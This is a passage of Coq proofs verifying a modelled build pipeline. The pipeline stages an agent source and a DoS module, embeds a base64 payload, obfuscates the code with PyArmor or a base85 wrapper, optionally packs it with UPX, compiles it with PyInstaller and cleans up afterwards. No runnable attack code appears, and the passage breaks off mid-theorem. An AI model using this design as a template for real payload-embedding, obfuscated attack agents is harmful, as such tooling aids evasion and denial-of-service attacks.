Lemma dirs_stay__generate_metadata D h b : keeps (dirs_stay D) (_generate_metadata h b).
Proof. unfold _generate_metadata. dirs_stay_with fail. Qed.

Lemma dirs_stay__manual_obfuscation D h b : keeps (dirs_stay D) (_manual_obfuscation h b).
Proof. unfold _manual_obfuscation. dirs_stay_with fail. Qed.

Lemma dirs_stay__generate_spec_file D h b : keeps (dirs_stay D) (_generate_spec_file h b).
Proof. unfold _generate_spec_file. dirs_stay_with fail. Qed.

Lemma dirs_stay__obfuscate_code D h b :
  tools_confined h -> (forall p, D p -> ¬ below (pyarmor_work_dir b) p) ->
  keeps (dirs_stay D) (_obfuscate_code h b).
Proof.
  intros Hc HD. unfold _obfuscate_code, _try_pyarmor_obfuscation.
  dirs_stay_with ltac:(first [ apply dirs_stay__manual_obfuscation
                             | apply dirs_stay_run_pyarmor; [exact Hc|exact HD] ]).
Qed.

Lemma dirs_stay__compile_executable D h b :
  tools_confined h -> (forall p, D p -> ¬ compile_dir b `prefix_of` p) ->
  keeps (dirs_stay D) (_compile_executable h b).
Proof.
  intros Hc HD. unfold _compile_executable.
  dirs_stay_with ltac:(first [ apply dirs_stay__generate_spec_file
                             | apply dirs_stay_rmtree; exact HD
                             | apply dirs_stay_run_pyinstaller;
                               [exact Hc|intros p Hp [Hb _]; exact (HD p Hp Hb)] ]).
Qed.


Lemma listdir_isdir f d names : listdir f d = Some names -> f !! d = Some Dir.
Proof. unfold listdir. destruct (f !! d) as [[c|]|]; congruence. Qed.

Lemma makedirs_prefix_isdir f p f' q :
  makedirs f p = Some f' -> q `prefix_of` p -> f' !! q = Some Dir.
Proof.
  intros H Hq. unfold makedirs in H.
  assert (G : forall rest f pre f', makedirs_from f pre rest = Some f' ->
              forall k1 k2, rest = k1 ++ k2 -> f' !! (pre ++ k1) = Some Dir).
  { clear. induction rest as [|s rest IH]; intros f pre f' H k1 k2 E.
    - symmetry in E. apply app_eq_nil in E as [-> ->]. rewrite app_nil_r.
      apply makedirs_from_spec in H as (_ & Hd & _). rewrite app_nil_r in Hd. exact Hd.
    - destruct k1 as [|s' k1].
      + rewrite app_nil_r.
        assert (Hpre : (<[pre := Dir]> f) !! pre = Some Dir) by apply lookup_insert_eq.
        simpl in H.
        assert (Hrec : makedirs_from (<[pre := Dir]> f) (join pre s) rest = Some f')
          by (destruct (f !! pre) as [[c|]|]; congruence).
        apply makedirs_from_spec in Hrec as (Hm & _). apply Hm, Hpre.
      + simpl in E. injection E as <- E. simpl in H.
        assert (Hrec : makedirs_from (<[pre := Dir]> f) (join pre s) rest = Some f')
          by (destruct (f !! pre) as [[c|]|]; congruence).
        specialize (IH _ _ _ Hrec k1 k2 E). unfold join in IH.
        rewrite <- app_assoc in IH. exact IH. }
  destruct Hq as [k ->]. exact (G _ _ _ _ H q k eq_refl).
Qed.

(** A successful customization wrote into the preparation directory. *)
Lemma _modify_source_code_prep_dir h b w :
  post (_modify_source_code h b) w (fun r w' =>
    r = Val true -> fs w' !! prep_dir b = Some Dir).
Proof.
  unfold _modify_source_code. post_steps; try discriminate.
  intros _. simpl.
  match goal with H : write_file _ _ _ = Some _ |- _ =>
    pose proof (write_file_Some _ _ _ _ H) as (_ & Hd & _);
    eapply write_file_dir; [exact H|]
  end.
  unfold modified_source in Hd. rewrite dirname_join in Hd. apply isdir_true, Hd.
Qed.

(** Both ways of obfuscating end by listing the obfuscation directory. *)
Ltac skip_to_last_listing :=
  repeat lazymatch goal with
         | |- post (bind (fs_query _) (fun _ => ret true)) _ _ => fail
         | |- post _ _ _ => post_skip
         end.

Lemma _manual_obfuscation_obfuscate_dir h b w :
  post (_manual_obfuscation h b) w (fun r w' =>
    r = Val true -> fs w' !! obfuscate_dir b = Some Dir).
Proof.
  unfold _manual_obfuscation. do 3 post_step.
  skip_to_last_listing.
  all: try (post_steps; discriminate).
  post_steps; try discriminate.
  intros _. eapply listdir_isdir. eassumption.
Qed.

Lemma _try_pyarmor_obfuscation_obfuscate_dir h b w :
  post (_try_pyarmor_obfuscation h b) w (fun r w' =>
    r = Val true -> fs w' !! obfuscate_dir b = Some Dir).
Proof.
  unfold _try_pyarmor_obfuscation. do 1 post_step.
  skip_to_last_listing.
  all: try (post_steps; discriminate).
  post_steps; try discriminate.
  intros _. eapply listdir_isdir. eassumption.
Qed.

Lemma _obfuscate_code_obfuscate_dir h b w :
  post (_obfuscate_code h b) w (fun r w' =>
    r = Val true -> fs w' !! obfuscate_dir b = Some Dir).
Proof.
  unfold _obfuscate_code. do 4 post_step.
  eapply post_weaken; [apply _try_pyarmor_obfuscation_obfuscate_dir|].
  intros [[|]|e] w1 H; cbv beta iota.
  - apply post_ret. exact H.
  - do 2 post_step.
    eapply post_weaken; [apply _manual_obfuscation_obfuscate_dir|].
    intros [a|e] w2 H2; [exact H2|].
    do 4 post_step. apply _manual_obfuscation_obfuscate_dir.
  - do 4 post_step. apply _manual_obfuscation_obfuscate_dir.
Qed.

(** A successful compilation leaves the build root and the compilation
    directory in place: it creates them, and what follows keeps every
    directory that is not strictly below the compilation directory. *)
Lemma _compile_executable_dirs h b w :
  tools_confined h ->
  post (_compile_executable h b) w (fun r w' =>
    r = Val true ->
    fs w' !! build_dir b = Some Dir /\ fs w' !! compile_dir b = Some Dir).
Proof.
  intros Hc. unfold _compile_executable. do 3 post_step.
  post_skip; [|post_steps; discriminate].
  post_skip; [|post_steps; discriminate|post_steps; discriminate].
  do 3 post_step. post_step; [|post_steps; discriminate].
  match goal with
  | |- post ?tail ?w2 _ =>
      assert (Hk : keeps (dirs_stay (fun p => ¬ below (compile_dir b) p)) tail)
  end.
  { dirs_stay_with ltac:(first [ apply dirs_stay__generate_spec_file
                               | apply dirs_stay_run_pyinstaller;
                                 [exact Hc|intros p Hp; exact Hp] ]). }
  eapply post_weaken; [apply Hk|]. intros r w' Hstay.
  assert (Hdirs : fs w' !! build_dir b = Some Dir /\ fs w' !! compile_dir b = Some Dir).
  { split; apply Hstay; simpl.
    - unfold compile_dir. apply not_below_parent.
    - eapply makedirs_prefix_isdir; [eassumption|]. unfold compile_dir. apply prefix_join.
    - apply not_below_self.
    - eapply makedirs_isdir. eassumption. }
  destruct r as [ok|err]; [intros _; exact Hdirs|].
  post_steps. discriminate.
Qed.

(** ** Cleanup *)

#[global] Instance absent_stays_preorder q : PreOrder (absent_stays q).
Proof. split; unfold absent_stays; [intros w|intros w1 w2 w3]; auto. Qed.

Lemma absent_stays_rmtree q d : keeps (absent_stays q) (fs_total (fun f => rmtree f d)).
Proof.
  apply keeps_step. intros w H. simpl. rewrite rmtree_lookup.
  destruct (isdir (fs w) d && bool_decide (d `prefix_of` q)); [reflexivity|exact H].
Qed.

Lemma absent_stays_remove q d : keeps (absent_stays q) (fs_update (fun f => remove f d)).
Proof.
  apply keeps_fs_update; [exact _|]. intros w f' H Hq. simpl.
  apply remove_Some in H as ->. destruct (decide (q = d)) as [->|Hne].
  - apply lookup_delete_eq.
  - rewrite lookup_delete_ne by congruence. exact Hq.
Qed.

Lemma absent_stays_quiet {A} q (m : M A) :
  (forall w, fs (m w).2 = fs w) -> keeps (absent_stays q) m.
Proof. intros H. apply keeps_step. intros w. unfold absent_stays. rewrite H. auto. Qed.

(** Without the debug flag, cleanup removes a build root that is a
    directory. *)
Lemma _clean_up_removes_build_dir h b w :
  debug b = false -> fs w !! build_dir b = Some Dir ->
  post (_clean_up h b) w (fun _ w' => exists_ (fs w') (build_dir b) = false).
Proof.
  intros Hd Hdir. unfold _clean_up. rewrite Hd. cbn [negb]. do 3 post_step.
  do 3 post_step.
  match goal with
  | |- post ?tail ?w2 _ => assert (Hk : keeps (absent_stays (build_dir b)) tail)
  end.
  { repeat first [ progress keeps_structure
                 | apply absent_stays_rmtree
                 | apply absent_stays_remove
                 | apply absent_stays_quiet; intros ?; reflexivity ]. }
  eapply post_weaken; [apply Hk|]. intros r w' Habs.
  assert (Hgone : fs w' !! build_dir b = None).
  { apply Habs. simpl. rewrite rmtree_lookup.
    apply isdir_true in Hdir. rewrite Hdir.
    rewrite bool_decide_eq_true_2 by reflexivity. reflexivity. }
  assert (Hex : forall w'', fs w'' = fs w' -> exists_ (fs w'') (build_dir b) = false).
  { intros w'' ->. unfold exists_. rewrite Hgone. reflexivity. }
  destruct r as [[]|e]; post_steps; apply Hex; reflexivity.
Qed.

(** With the debug flag, cleanup leaves the file system as it is. *)
Lemma _clean_up_debug h b :
  debug b = true -> keeps same_fs (_clean_up h b).
Proof.
  intros Hd. unfold _clean_up. rewrite Hd. cbn [negb].
  repeat first [ progress keeps_structure
               | apply keeps_step; intros ?; reflexivity ].
Qed.


(** C9.  After a successful build with confined tools: without the debug
    flag the build root is gone; with it, the build root and its three
    staging directories are still there.  The cleanup stage returns
    [True] from every world. *)
Theorem cleanup_respects_debug h b w m w' :
  tools_confined h ->
  build h b w = (Val (true, Some m), w') ->
  (debug b = false -> exists_ (fs w') (build_dir b) = false) /\
  (debug b = true ->
   isdir (fs w') (build_dir b) = true /\ isdir (fs w') (prep_dir b) = true /\
   isdir (fs w') (obfuscate_dir b) = true /\ isdir (fs w') (compile_dir b) = true) /\
  (forall w0, exists w1, _clean_up h b w0 = (Val true, w1)).
Proof.
  intros Hc Hb.
  destruct (build_success _ _ _ _ _ Hb) as (w1 & w2 & w3 & w4 & w5 & w6 & w7 &
    E1 & E2 & E3 & E4 & E5 & E6 & E7 & Hfs).
  destruct (post_run _ _ _ _ _ (_compile_executable_dirs h b w4 Hc) E5 eq_refl)
    as [Hbuild5 Hcompile5].
  pose proof (keeps_run _ _ _ _ _ (dirs_stay__generate_metadata (fun _ => True) h b) E6)
    as Hmeta.
  split; [|split].
  - intros Hd. rewrite Hfs.
    exact (post_run _ _ _ _ _
             (_clean_up_removes_build_dir h b w6 Hd (Hmeta _ I Hbuild5)) E7).
  - intros Hd.
    pose proof (keeps_run _ _ _ _ _ (_clean_up_debug h b Hd) E7) as Hclean.
    unfold same_fs in Hclean. rewrite Hfs, Hclean.
    pose proof (post_run _ _ _ _ _ (_modify_source_code_prep_dir h b w2) E3 eq_refl)
      as Hprep3.
    pose proof (post_run _ _ _ _ _ (_obfuscate_code_obfuscate_dir h b w3) E4 eq_refl)
      as Hobf4.
    assert (Hprep4 : fs w4 !! prep_dir b = Some Dir).
    { refine (keeps_run _ _ _ _ _
                (dirs_stay__obfuscate_code (fun p => p = prep_dir b) h b Hc _) E4
                _ eq_refl Hprep3).
      intros p ->. unfold pyarmor_work_dir, prep_dir. apply not_below_sibling. discriminate. }
    assert (Hstay5 : forall name, name ≠ "compile" ->
               fs w4 !! join (build_dir b) name = Some Dir ->
               fs w5 !! join (build_dir b) name = Some Dir).
    { intros name Hne.
      refine (keeps_run _ _ _ _ _
                (dirs_stay__compile_executable (fun p => p = join (build_dir b) name)
                   h b Hc _) E5 _ eq_refl).
      intros p ->. unfold compile_dir. apply join_not_prefix_sibling. congruence. }
    rewrite !isdir_true. repeat split; apply Hmeta; try exact I; try assumption.
    + apply (Hstay5 "prep"); [discriminate|exact Hprep4].
    + apply (Hstay5 "obfuscate"); [discriminate|exact Hobf4].
  - intros w0. apply _clean_up_true.
Qed.

Lemma cleanup_respects_debug_witness :
  exists_ (fs (build linux_host linux_builder demo_world).2) (build_dir linux_builder) = false /\
  isdir (fs (build linux_host debug_builder demo_world).2) (prep_dir debug_builder) = true.
Proof.
  destruct (succeeded_run linux_host linux_builder demo_world) as [m1 E1];
    [vm_compute; reflexivity|].
  destruct (succeeded_run linux_host debug_builder demo_world) as [m2 E2];
    [vm_compute; reflexivity|].
  split.
  - apply (cleanup_respects_debug linux_host linux_builder demo_world m1 _
             (demo_tools_confined _ _) E1). reflexivity.
  - apply (cleanup_respects_debug linux_host debug_builder demo_world m2 _
             (demo_tools_confined _ _) E2). reflexivity.
Defined.

(** ** The manual fallback *)

Lemma split_lines_plain s : no_newline s = true -> split_lines s = [s].
Proof.
  induction s as [|c s IH]; [reflexivity|]. simpl. intros H.
  apply andb_prop in H as [Hc H]. apply negb_true_iff in Hc. rewrite Hc, (IH H).
  reflexivity.
Qed.

Lemma split_lines_line s t :
  no_newline s = true -> split_lines (s +:+ nl +:+ t) = s :: split_lines t.
Proof.
  induction s as [|c s IH]; intros H.
  - rewrite append_nil_l. unfold nl. rewrite append_cons, append_nil_l. simpl.
    reflexivity.
  - rewrite append_cons. simpl in *.
    apply andb_prop in H as [Hc H]. apply negb_true_iff in Hc. rewrite Hc, (IH H).
    reflexivity.
Qed.

Lemma split_join_lines ls :
  ls ≠ [] -> forallb no_newline ls = true -> split_lines (join_lines ls) = ls.
Proof.
  unfold join_lines. induction ls as [|l ls IH]; [congruence|]. intros _ H.
  simpl in H. apply andb_prop in H as [Hl H]. destruct ls as [|l' ls].
  - simpl. apply split_lines_plain, Hl.
  - change (String.concat nl (l :: l' :: ls))
      with (l +:+ nl +:+ String.concat nl (l' :: ls)).
    rewrite split_lines_line by exact Hl. rewrite IH; [reflexivity|congruence|exact H].
Qed.

Lemma no_newline_append s t :
  no_newline (s +:+ t) = no_newline s && no_newline t.
Proof.
  induction s as [|c s IH]; [reflexivity|]. rewrite append_cons. simpl.
  rewrite IH, andb_assoc. reflexivity.
Qed.

Lemma drop_string_append s t : drop_string (String.length s) (s +:+ t) = t.
Proof. induction s as [|c s IH]; [destruct t; reflexivity|]. rewrite append_cons. exact IH. Qed.

Lemma drop_last_quote_append s : drop_last_quote (s +:+ dquote) = Some s.
Proof.
  induction s as [|c s IH]; [reflexivity|]. rewrite append_cons.
  simpl. rewrite IH. destruct (s +:+ dquote) eqn:E; [|reflexivity].
  destruct s; discriminate.
Qed.

Lemma prefix_append s t : String.prefix s (s +:+ t) = true.
Proof.
  induction s as [|c s IH]; [destruct t; reflexivity|]. rewrite append_cons. simpl.
  rewrite IH. destruct (ascii_dec c c); congruence.
Qed.

(** The blob comes back out of the wrapper script. *)
Lemma embedded_blob_wrapper generated blob :
  no_newline generated = true -> no_newline blob = true ->
  embedded_blob (wrapper_text generated blob) = Some blob.
Proof.
  intros Hg Hb. unfold embedded_blob, wrapper_text.
  rewrite split_join_lines.
  - cbn [find_blob]. 
    change (String.prefix blob_prefix ("# Obfuscated code - Generated " +:+ generated))
      with false. cbv iota.
    repeat match goal with
           | |- context [String.prefix blob_prefix ?l] =>
               lazymatch l with
               | blob_prefix +:+ _ => fail
               | _ => change (String.prefix blob_prefix l) with false; cbv iota
               end
           end.
    rewrite prefix_append, drop_string_append. apply drop_last_quote_append.
  - discriminate.
  - cbn [forallb]. rewrite !no_newline_append, Hg, Hb. reflexivity.
Qed.

Lemma b85c_no_newline n : Ascii.eqb (b85c n) newline = false.
Proof.
  unfold b85c.
  assert (T : forallb (fun i => negb (Ascii.eqb (char_at b85_alphabet i) newline)) (seq 0 85)
              = true) by (vm_compute; reflexivity).
  rewrite forallb_forall in T.
  assert (Hlt : (n mod 85 < 85)%N) by (apply N.mod_lt; discriminate).
  generalize dependent (n mod 85)%N. intros k Hlt.
  assert (Hin : In (N.to_nat k) (seq 0 85)) by (apply in_seq; lia).
  apply T in Hin. apply negb_true_iff in Hin. exact Hin.
Qed.

Lemma b85encode_no_newline s : no_newline (b85encode s) = true.
Proof.
  induction s as [|a|a b|a b c|a b c d rest IH] using string_ind4;
    cbn [b85encode b85_group take string_of_list no_newline];
    rewrite ?append_cons, ?append_nil_l; cbn [no_newline];
    rewrite ?b85c_no_newline, ?IH; reflexivity.
Qed.



Lemma copy2_other f src dst f' q :
  copy2 f src dst = Some f' -> q ≠ dst -> q ≠ join dst (basename src) ->
  f' !! q = f !! q.
Proof.
  intros H H1 H2. apply copy2_Some in H as (c & _ & _ & Hw).
  apply (write_file_other _ _ _ _ q Hw). unfold copy_target.
  destruct (isdir f dst); assumption.
Qed.

Lemma join_inj d a c : join d a = join d c -> a = c.
Proof. unfold join. intros E. apply app_inv_head in E. congruence. Qed.

Lemma join_ne_deeper d a c e : join d a ≠ join (join d c) e.
Proof.
  unfold join. rewrite <- app_assoc. intros E. apply app_inv_head in E. discriminate.
Qed.






Lemma run_pair {A} (m : M A) w : m w = ((m w).1, (m w).2).
Proof. destruct (m w). reflexivity. Qed.


(** * Further properties of the stages *)


Lemma attributes_after_check_post h b w :
  post (_check_dependencies h b) w (fun r w' =>
    r = Val true ->
    use_upx w' = (use_upx w && negb (is_some (upx_version h))) /\
    payload_data w' = match payload_path b with
                      | Some p => option_map b64encode (read_file (fs w) p)
                      | None => payload_data w
                      end).
Proof.
  unfold _check_dependencies.
  post_steps; simpl in *; intros; try discriminate;
    repeat match goal with
           | H : ?x = _ |- context [?x] => rewrite H
           end; simpl; try (split; reflexivity).
Qed.

(** X2.  A dependency check that passes leaves the UPX flag set only if it
    was set and the UPX query answered, and leaves as payload data the
    base64 text of the payload file when one is configured; without a
    payload path the payload data is as it was. *)
Theorem attributes_after_dependency_check h b w w' :
  _check_dependencies h b w = (Val true, w') ->
  use_upx w' = (use_upx w && negb (is_some (upx_version h))) /\
  payload_data w' = match payload_path b with
                    | Some p => option_map b64encode (read_file (fs w) p)
                    | None => payload_data w
                    end.
Proof.
  intros E. exact (post_run _ _ _ _ _ (attributes_after_check_post h b w) E eq_refl).
Qed.

Lemma attributes_after_dependency_check_witness :
  use_upx (_check_dependencies linux_host linux_builder upx_world).2 = false /\
  payload_data (_check_dependencies windows_host windows_builder_ok windows_world_ok).2
    = Some (b64encode "@echo off").
Proof.
  split.
  - apply (attributes_after_dependency_check linux_host linux_builder upx_world _
             (run_pair (_check_dependencies linux_host linux_builder) upx_world)
             : use_upx _ = (true && negb true) /\ _).
  - apply (attributes_after_dependency_check windows_host windows_builder_ok
             windows_world_ok _
             (run_pair (_check_dependencies windows_host windows_builder_ok)
                windows_world_ok)).
Defined.

#[global] Instance same_attributes_preorder : PreOrder same_attributes.
Proof.
  split; unfold same_attributes; [intros w|intros w1 w2 w3]; intuition congruence.
Qed.

Ltac attributes_kept tac :=
  repeat first
    [ progress keeps_structure
    | apply keeps_check_required; [exact _|intros ? ?]
    | tac
    | apply keeps_step; intros ?;
      unfold same_attributes, log, enter, fs_update, fs_total, run_pyarmor,
        run_pyinstaller;
      repeat case_match; split; reflexivity ].

Lemma attributes__create_payload_module h b :
  keeps same_attributes (_create_payload_module h b).
Proof. unfold _create_payload_module. attributes_kept fail. Qed.

Lemma attributes__manual_obfuscation h b :
  keeps same_attributes (_manual_obfuscation h b).
Proof. unfold _manual_obfuscation. attributes_kept fail. Qed.

Lemma attributes__try_pyarmor_obfuscation h b :
  keeps same_attributes (_try_pyarmor_obfuscation h b).
Proof. unfold _try_pyarmor_obfuscation. attributes_kept fail. Qed.

Lemma attributes__generate_spec_file h b :
  keeps same_attributes (_generate_spec_file h b).
Proof. unfold _generate_spec_file. attributes_kept fail. Qed.

(** X3.  After the dependency check no stage assigns the UPX flag or the
    payload data: each of the six later stages ends with both as it found
    them, whatever its outcome. *)
Theorem attributes_fixed_after_check h b :
  keeps same_attributes (_prepare_build_environment h b) /\
  keeps same_attributes (_modify_source_code h b) /\
  keeps same_attributes (_obfuscate_code h b) /\
  keeps same_attributes (_compile_executable h b) /\
  keeps same_attributes (_generate_metadata h b) /\
  keeps same_attributes (_clean_up h b).
Proof.
  split; [|split; [|split; [|split; [|split]]]].
  - unfold _prepare_build_environment.
    attributes_kept ltac:(apply attributes__create_payload_module).
  - unfold _modify_source_code. attributes_kept fail.
  - unfold _obfuscate_code.
    attributes_kept ltac:(first [ apply attributes__manual_obfuscation
                                | apply attributes__try_pyarmor_obfuscation ]).
  - unfold _compile_executable.
    attributes_kept ltac:(apply attributes__generate_spec_file).
  - unfold _generate_metadata. attributes_kept fail.
  - unfold _clean_up. attributes_kept fail.
Qed.


Lemma _create_payload_module_frame h b w :
  post (_create_payload_module h b) w (fun _ w' =>
    (forall q, q ≠ payload_module b -> fs w' !! q = fs w !! q) /\
    (forall q, fs w !! q = Some Dir -> fs w' !! q = Some Dir)).
Proof.
  unfold _create_payload_module. post_steps; simpl; split; intros q Hq; try reflexivity;
    try assumption.
  all: first [ eapply write_file_other; eassumption
             | eapply write_file_dir; eassumption ].
Qed.

Lemma makedirs_not_dir f p f' q :
  makedirs f p = Some f' -> isdir f q = false -> ¬ q `prefix_of` p ->
  isdir f' q = false.
Proof.
  intros H Hq Hp. destruct (isdir f' q) eqn:E'; [|reflexivity].
  apply isdir_true in E'. destruct (f !! q) as [x|] eqn:E.
  - pose proof (makedirs_keeps _ _ _ _ _ H E) as K. rewrite K in E'.
    injection E' as ->. apply isdir_true in E. congruence.
  - destruct (makedirs_new _ _ _ _ H E) as [_ Hpre]; [exists Dir; exact E'|].
    contradiction.
Qed.

Lemma read_file_makedirs f p f' q c :
  makedirs f p = Some f' -> read_file f q = Some c -> read_file f' q = Some c.
Proof.
  unfold read_file. intros H Hq. destruct (f !! q) as [[c'|]|] eqn:E; try discriminate.
  pose proof (makedirs_keeps _ _ _ _ _ H E) as K.
  etransitivity; [|exact Hq].
  change (match f' !! q with Some (File c0) => Some c0 | _ => None end
          = Some c') in |- * || idtac.
  destruct (f' !! q) as [[c0|]|]; congruence.
Qed.

Lemma copy2_reads f src dst f' :
  copy2 f src dst = Some f' -> isdir f dst = false ->
  exists c, read_file f src = Some c /\ read_file f' dst = Some c /\
            forall q, q ≠ dst -> f' !! q = f !! q.
Proof.
  intros H Hd. apply copy2_Some in H as (c & Hsrc & _ & Hw).
  unfold copy_target in Hw. rewrite Hd in Hw. exists c.
  unfold read_file. rewrite Hsrc, (write_file_lookup _ _ _ _ Hw).
  split; [reflexivity|]. split; [reflexivity|].
  intros q Hq. exact (write_file_other _ _ _ _ _ Hw Hq).
Qed.

Lemma staged_name_not_prefix b name : ¬ join (prep_dir b) name `prefix_of` build_dir b /\
  ¬ join (prep_dir b) name `prefix_of` prep_dir b /\
  ¬ join (prep_dir b) name `prefix_of` obfuscate_dir b /\
  ¬ join (prep_dir b) name `prefix_of` compile_dir b.
Proof.
  assert (L : forall (p q : path), p `prefix_of` q -> length p <= length q).
  { intros p q [k ->]. rewrite length_app. lia. }
  unfold prep_dir, obfuscate_dir, compile_dir, join.
  repeat split; intros H; apply L in H; rewrite !length_app in H; simpl in H; lia.
Qed.

Lemma read_file_Some (f : filesystem) (q : path) c :
  read_file f q = Some c <-> f !! q = Some (File c).
Proof. unfold read_file. destruct (f !! q) as [[c'|]|]; split; congruence. Qed.

Lemma makedirs_file_back f p f' q c :
  makedirs f p = Some f' -> read_file f' q = Some c -> read_file f q = Some c.
Proof.
  intros H Hq. apply read_file_Some in Hq. apply read_file_Some.
  destruct (f !! q) as [x|] eqn:E.
  - pose proof (makedirs_keeps _ _ _ _ _ H E) as K.
    pose proof (eq_trans (eq_sym K) Hq) as Hx. injection Hx as ->. reflexivity.
  - destruct (makedirs_new _ _ _ _ H E) as [K _]; [exists (File c); exact Hq|].
    pose proof (eq_trans (eq_sym K) Hq) as Hx. discriminate.
Qed.

Lemma read_file_eq (f f' : filesystem) (q : path) :
  f' !! q = f !! q -> read_file f' q = read_file f q.
Proof. unfold read_file. intros ->. reflexivity. Qed.

Lemma isdir_eq (f f' : filesystem) (q : path) :
  f' !! q = f !! q -> isdir f' q = isdir f q.
Proof. unfold isdir. intros ->. reflexivity. Qed.

Lemma join_length_ne (d d' : path) name : length d' ≠ S (length d) -> d' ≠ join d name.
Proof. unfold join. intros H ->. rewrite length_app in H. simpl in H. lia. Qed.

Lemma staging_post h b w :
  post (_prepare_build_environment h b) w (fun r w' =>
    r = Val true ->
    (fs w' !! build_dir b = Some Dir /\ fs w' !! prep_dir b = Some Dir /\
     fs w' !! obfuscate_dir b = Some Dir /\ fs w' !! compile_dir b = Some Dir /\
     fs w' !! output_dir b = Some Dir) /\
    exists source dos,
      read_file (fs w) (source_file_path b) = Some source /\
      read_file (fs w) (dos_module_path b) = Some dos /\
      (isdir (fs w) (join (prep_dir b) SOURCE_FILE) = false ->
       ¬ join (prep_dir b) SOURCE_FILE `prefix_of` output_dir b ->
       read_file (fs w') (join (prep_dir b) SOURCE_FILE) = Some source) /\
      (isdir (fs w) (join (prep_dir b) DOS_MODULE_FILE) = false ->
       ¬ join (prep_dir b) DOS_MODULE_FILE `prefix_of` output_dir b ->
       read_file (fs w') (join (prep_dir b) DOS_MODULE_FILE) = Some dos)).
Proof.
  unfold _prepare_build_environment. do 2 post_step. post_step.
  do 7 (post_step; post_step; [|solve [post_steps; intros; discriminate]]).
  do 2 (post_step; post_step; [|solve [post_steps; intros; discriminate]]).
  simpl in *.
  set (Concl := fun f : filesystem =>
    (f !! build_dir b = Some Dir /\ f !! prep_dir b = Some Dir /\
     f !! obfuscate_dir b = Some Dir /\ f !! compile_dir b = Some Dir /\
     f !! output_dir b = Some Dir) /\
    exists source dos,
      read_file (fs w) (source_file_path b) = Some source /\
      read_file (fs w) (dos_module_path b) = Some dos /\
      (isdir (fs w) (join (prep_dir b) SOURCE_FILE) = false ->
       ¬ join (prep_dir b) SOURCE_FILE `prefix_of` output_dir b ->
       read_file f (join (prep_dir b) SOURCE_FILE) = Some source) /\
      (isdir (fs w) (join (prep_dir b) DOS_MODULE_FILE) = false ->
       ¬ join (prep_dir b) DOS_MODULE_FILE `prefix_of` output_dir b ->
       read_file f (join (prep_dir b) DOS_MODULE_FILE) = Some dos)).
  assert (HF : forall f : filesystem,
             (forall q, q ≠ payload_module b -> f !! q = f'5 !! q) ->
             (forall q, f'5 !! q = Some Dir -> f !! q = Some Dir) -> Concl f).
  { intros f Hother Hdirs.
    assert (Hstay : forall q, f'3 !! q = Some Dir -> f !! q = Some Dir).
    { intros q Hq. apply Hdirs. eapply copy2_dir; [exact H5|].
      eapply copy2_dir; [exact H4|]. exact Hq. }
    split.
    { repeat split; apply Hstay.
      - eapply makedirs_keeps; [exact H3|]. eapply makedirs_keeps; [exact H2|].
        eapply makedirs_keeps; [exact H1|]. eapply makedirs_keeps; [exact H0|].
        eapply makedirs_isdir; exact H.
      - eapply makedirs_keeps; [exact H3|]. eapply makedirs_keeps; [exact H2|].
        eapply makedirs_keeps; [exact H1|]. eapply makedirs_isdir; exact H0.
      - eapply makedirs_keeps; [exact H3|]. eapply makedirs_keeps; [exact H2|].
        eapply makedirs_isdir; exact H1.
      - eapply makedirs_keeps; [exact H3|]. eapply makedirs_isdir; exact H2.
      - eapply makedirs_isdir; exact H3. }
    pose proof (copy2_Some _ _ _ _ H4) as (source & Hsrc & _ & Hw4).
    pose proof (copy2_Some _ _ _ _ H5) as (dos & Hdos & _ & Hw5).
    assert (Back : forall q c, read_file f'3 q = Some c -> read_file (fs w) q = Some c).
    { intros q c Hq.
      eapply makedirs_file_back; [exact H|]. eapply makedirs_file_back; [exact H0|].
      eapply makedirs_file_back; [exact H1|]. eapply makedirs_file_back; [exact H2|].
      eapply makedirs_file_back; [exact H3|]. exact Hq. }
    assert (Hdos3 : f'4 !! dos_module_path b = f'3 !! dos_module_path b).
    { eapply write_file_other; [exact Hw4|].
      unfold copy_target. destruct (isdir f'3 _).
      - apply join_length_ne. unfold dos_module_path, prep_dir, build_dir, join.
        rewrite !length_app. simpl. lia.
      - apply join_length_ne. unfold dos_module_path, prep_dir, build_dir, join.
        rewrite !length_app. simpl. lia. }
    exists source, dos.
    split. { apply Back. unfold read_file. rewrite Hsrc. reflexivity. }
    split. { apply Back. unfold read_file. rewrite <- Hdos3, Hdos. reflexivity. }
    assert (NotDir : forall name,
              isdir (fs w) (join (prep_dir b) name) = false ->
              ¬ join (prep_dir b) name `prefix_of` output_dir b ->
              isdir f'3 (join (prep_dir b) name) = false).
    { intros name Hn Hout.
      destruct (staged_name_not_prefix b name) as (N1 & N2 & N3 & N4).
      eapply makedirs_not_dir; [exact H3| |exact Hout].
      eapply makedirs_not_dir; [exact H2| |exact N4].
      eapply makedirs_not_dir; [exact H1| |exact N3].
      eapply makedirs_not_dir; [exact H0| |exact N2].
      eapply makedirs_not_dir; [exact H|exact Hn|exact N1]. }
    split.
    - intros Hn Hout. specialize (NotDir _ Hn Hout).
      destruct (copy2_reads _ _ _ _ H4 NotDir) as (c & Hc & Hread & _).
      assert (c = source) as ->.
      { unfold read_file in Hc. rewrite Hsrc in Hc. congruence. }
      rewrite (read_file_eq f'5 f).
      2:{ apply Hother. unfold payload_module. intros E. apply join_inj in E. discriminate. }
      rewrite (read_file_eq f'4 f'5); [exact Hread|].
      eapply copy2_other; [exact H5| |].
      + intros E. apply join_inj in E. discriminate.
      + apply join_ne_deeper.
    - intros Hn Hout. specialize (NotDir _ Hn Hout).
      assert (NotDir4 : isdir f'4 (join (prep_dir b) DOS_MODULE_FILE) = false).
      { rewrite (isdir_eq f'3 f'4); [exact NotDir|].
        eapply copy2_other; [exact H4| |].
        + intros E. apply join_inj in E. discriminate.
        + apply join_ne_deeper. }
      destruct (copy2_reads _ _ _ _ H5 NotDir4) as (c & Hc & Hread & _).
      assert (c = dos) as ->.
      { unfold read_file in Hc. rewrite Hdos in Hc. congruence. }
      rewrite (read_file_eq f'5 f); [exact Hread|].
      apply Hother. unfold payload_module. intros E. apply join_inj in E. discriminate. }
  do 4 post_step.
  - post_step.
    eapply post_weaken; [apply _create_payload_module_frame|].
    intros r w1 [Ho Hd]. simpl in Ho, Hd.
    destruct r as [ok|e]; post_steps; intros; try discriminate.
    apply HF; assumption.
  - post_steps. intros _. simpl. apply HF; auto.
Qed.

(** X5.  Staging that returns success has made the build root, its three
    staging directories and the output directory, and has read the agent
    source and its companion module where the builder expects them; the
    copy of each lies in the preparation directory under its own name
    with the content of the original, provided no directory stood at that
    name and the output directory does not pass through it. *)
Theorem staging_copies_inputs h b w w' :
  _prepare_build_environment h b w = (Val true, w') ->
